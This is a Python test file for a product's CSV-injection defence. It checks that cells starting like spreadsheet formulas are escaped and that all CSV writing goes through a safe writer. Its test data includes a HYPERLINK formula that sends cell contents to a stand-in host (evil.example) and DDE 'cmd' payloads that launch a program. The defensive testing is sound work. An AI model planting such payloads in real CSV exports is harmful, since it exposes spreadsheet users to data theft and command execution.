"""CSV the product writes is safe to open in a spreadsheet (OWASP CSV injection): Given cells
that start like formulas, When written, Then they are text; plain numbers stay numbers; and no
product code writes CSV but through ``mes_domain.csv_safety``."""

import ast
import csv
import io

import pytest

from mes_domain.csv_safety import neutralise, safe_writer
from tests.conftest import PROJECT_ROOT

PRODUCT_PACKAGES = ("lambdas", "mes_domain", "greengrass_components", "mes_vision", "stacks")


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?d="&A1,"x")',
        "+SUM(A1:A9)",
        "-1+1",
        "-5)*cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "-",
        "+",
        "-5e3",  # not a plain decimal: quoted (a spreadsheet would still read a number)
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+5", "-0.25", "-.5", "12", "DOOR-L", "a=b", "", " =1"])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_non_text_cells_are_left_alone():
    assert [neutralise(v) for v in (-5, 1.5, None)] == [-5, 1.5, None]


def test_the_writer_neutralises_every_cell_and_quotes_as_csv_does():
    out = io.StringIO(newline="")
    writer = safe_writer(out, lineterminator="\n")

    writer.writerow(["id", "text", "qty"])
    writer.writerows([["1", '=cmd|"/c calc"!A1', "-5"], ["2", "@x,y", "-1+2"]])

    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["id", "text", "qty"],
        ["1", '\'=cmd|"/c calc"!A1', "-5"],
        ["2", "'@x,y", "'-1+2"],
    ]


def _csv_writer_calls(path):
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                yield f"{path.relative_to(PROJECT_ROOT)}:{node.lineno}"


def test_no_product_code_writes_csv_but_through_the_safe_writer():
    offenders = [
        where
        for package in PRODUCT_PACKAGES
        for path in sorted((PROJECT_ROOT / package).rglob("*.py"))
        if path.name != "csv_safety.py"
        for where in _csv_writer_calls(path)
    ]
    assert offenders == []
